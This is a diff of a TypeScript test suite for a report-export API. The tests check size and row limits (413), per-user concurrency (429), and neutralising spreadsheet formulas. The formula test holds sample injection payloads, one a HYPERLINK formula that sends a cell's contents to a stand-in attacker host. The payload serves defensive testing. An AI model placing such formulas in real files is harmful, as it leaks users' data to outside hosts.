@@ -41,6 +41,12 @@ describe('report exports are bounded: sizes and rows (413), one per user (429), 
     // An empty file is left out of the data the export reads (it is not JSON).
     await write(Object.fromEntries(paths.map((p) => [p, ''])));
   }
+  const REPORT = '# 报告 / Report\n\n| 供应商 | 单价 |\n| --- | --- |\n| 博世 | ¥12.30 |\n';
+  /** Data files, then the report again: an export takes the data written before its report (an analysis's order). */
+  async function writeData(files: Record<string, string>) {
+    await write(files);
+    await write({ '/analysis/report.md': REPORT });
+  }
   const exportUrl = (file: string, format: 'pdf' | 'xlsx') =>
     `${h.url}/api/v1/files/${sessionId}${file}?format=${format}`;
   const get = (url: string, token = h.tokens.laoxiao) => fetch(url, { headers: { authorization: `Bearer ${token}` } });
@@ -49,7 +55,7 @@ describe('report exports are bounded: sizes and rows (413), one per user (429), 
     h = await startApiHarness();
     const run = await h.chat(h.tokens.laoxiao, { message: '你好' });
     sessionId = run.headers.get('x-session-id') as string;
-    await write({ '/analysis/report.md': '# 报告 / Report\n\n| 供应商 | 单价 |\n| --- | --- |\n| 博世 | ¥12.30 |\n' });
+    await write({ '/analysis/report.md': REPORT });
   }, 120_000);
   afterAll(async () => {
     await h?.close();
@@ -72,7 +78,7 @@ describe('report exports are bounded: sizes and rows (413), one per user (429), 
     const chunk = JSON.stringify(records(1_000));
     const files: Record<string, string> = {};
     for (let i = 0; i * chunk.length <= DEFAULT_EXPORT_LIMITS.dataBytes; i++) files[`/data/part_${i}.json`] = chunk;
-    await write(files);
+    await writeData(files);
     const res = await get(exportUrl('/analysis/report.md', 'xlsx'));
     expect(res.status).toBe(413);
     expect(((await res.json()) as Problem).limit_bytes).toBe(DEFAULT_EXPORT_LIMITS.dataBytes);
@@ -81,7 +87,7 @@ describe('report exports are bounded: sizes and rows (413), one per user (429), 
 
   it('a report and data past the row limit get 413 naming the rows, not a workbook cut short', async () => {
     const rows = DEFAULT_EXPORT_LIMITS.rows + 1;
-    await write({ '/data/rows.json': JSON.stringify(Array.from({ length: rows }, (_, i) => ({ i }))) });
+    await writeData({ '/data/rows.json': JSON.stringify(Array.from({ length: rows }, (_, i) => ({ i }))) });
     const res = await get(exportUrl('/analysis/report.md', 'xlsx'));
     expect(res.status).toBe(413);
     const problem = (await res.json()) as Problem;
@@ -92,7 +98,7 @@ describe('report exports are bounded: sizes and rows (413), one per user (429), 
 
   it('a second export by the same user while one runs gets 429 with Retry-After; the first completes', async () => {
     const n = 20_000;
-    await write({ '/data/prices.json': JSON.stringify(records(n)) });
+    await writeData({ '/data/prices.json': JSON.stringify(records(n)) });
     const first = await get(exportUrl('/analysis/report.md', 'xlsx'));
     expect(first.status).toBe(200);
     // The first export's body is not read yet: it is still being produced (the process waits for the reader).
@@ -123,7 +129,7 @@ describe('report exports are bounded: sizes and rows (413), one per user (429), 
     }));
     const data = JSON.stringify(rows);
     expect(data.length).toBeLessThan(DEFAULT_EXPORT_LIMITS.dataBytes);
-    await write({ '/data/prices.json': data });
+    await writeData({ '/data/prices.json': data });
     let exportDone = false;
     const exporting = get(exportUrl('/analysis/report.md', 'xlsx')).then(async (res) => {
       const bytes = await res.arrayBuffer();
@@ -170,10 +176,8 @@ describe('report exports are bounded: sizes and rows (413), one per user (429), 
   it('text a spreadsheet would take for a formula is written as plain text', async () => {
     const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', '+1+1', '-2+3', '@SUM(A1)', '\t=1'];
     const table = formulas.map((f) => `| ${f.replace(/\|/g, '\\|')} | ¥1.00 |`).join('\n');
-    await write({
-      '/analysis/formulas.md': `# 报告\n\n| 名称 | 单价 |\n| --- | --- |\n${table}\n`,
-      '/data/formulas.json': JSON.stringify(formulas.map((name) => ({ name, price: -1 }))),
-    });
+    await write({ '/data/formulas.json': JSON.stringify(formulas.map((name) => ({ name, price: -1 }))) });
+    await write({ '/analysis/formulas.md': `# 报告\n\n| 名称 | 单价 |\n| --- | --- |\n${table}\n` });
     const res = await get(exportUrl('/analysis/formulas.md', 'xlsx'));
     expect(res.status).toBe(200);
     const workbook = new ExcelJS.Workbook();
